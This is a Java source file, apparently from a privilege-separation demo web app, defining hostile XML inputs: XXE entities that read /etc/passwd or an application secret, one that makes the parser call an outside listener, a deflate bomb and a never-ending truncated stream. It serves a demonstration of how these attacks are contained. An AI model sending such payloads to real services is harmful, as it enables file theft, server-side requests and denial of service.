package io.privsep.demo.web;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Locale;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;

/**
 * A document as strangers send them.
 */
enum StrangersDocument {

	/** An order, and nothing else. */
	HONEST(false) {

		@Override
		byte[] make(URI secret, URI listener) {
			return order("", "tea");
		}

	},

	/** Has the parser read a file of the system. */
	PASSWD(false) {

		@Override
		byte[] make(URI secret, URI listener) {
			return reference(URI.create("file:///etc/passwd"));
		}

	},

	/** Has the parser read a file of the application. */
	SECRET(false) {

		@Override
		byte[] make(URI secret, URI listener) {
			return reference(secret);
		}

	},

	/** Has the parser call someone. */
	CALL(false) {

		@Override
		byte[] make(URI secret, URI listener) {
			return reference(listener);
		}

	},

	/** Takes a thousand times as much memory, once unpacked, and more than there is. */
	BOMB(true) {

		@Override
		byte[] make(URI secret, URI listener) {
			return packed(BOMB_BLOCKS);
		}

	},

	/** Has no end, for which whoever unpacks it waits. */
	LOOP(true) {

		@Override
		byte[] make(URI secret, URI listener) {
			byte[] whole = packed(0);
			return Arrays.copyOf(whole, whole.length / 2);
		}

	};

	/** Of 1 MiB; a helper has 64 of them. */
	private static final int BOMB_BLOCKS = 128;

	private final boolean isPacked;

	StrangersDocument(boolean isPacked) {
		this.isPacked = isPacked;
	}

	/**
	 * Finds a document.
	 * @param name its name, in lower case
	 * @return the document
	 */
	static StrangersDocument of(String name) {
		for (StrangersDocument document : values()) {
			if (document.name().toLowerCase(Locale.ROOT).equals(name)) {
				return document;
			}
		}
		throw new BadRequestException("There is no document '" + name + "'");
	}

	boolean isPacked() {
		return this.isPacked;
	}

	/**
	 * Makes the document.
	 * @param secret a file of the application
	 * @param listener who notices being called
	 * @return the document
	 */
	abstract byte[] make(URI secret, URI listener);

	private static byte[] order(String type, String item) {
		return ("<?xml version=\"1.0\"?>" + type + "<order><item>" + item + "</item><quantity>3</quantity></order>")
			.getBytes(StandardCharsets.UTF_8);
	}

	private static byte[] reference(URI uri) {
		return order("<!DOCTYPE order [<!ENTITY x SYSTEM \"" + uri + "\">]>", "&x;");
	}

	private static byte[] packed(int blanks) {
		byte[] block = new byte[1 << 20];
		Arrays.fill(block, (byte) ' ');
		ByteArrayOutputStream packed = new ByteArrayOutputStream();
		try (DeflaterOutputStream out = new DeflaterOutputStream(packed, new Deflater(Deflater.BEST_SPEED))) {
			out.write(order("", "tea"));
			for (int i = 0; i < blanks; i++) {
				out.write(block);
			}
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return packed.toByteArray();
	}

}
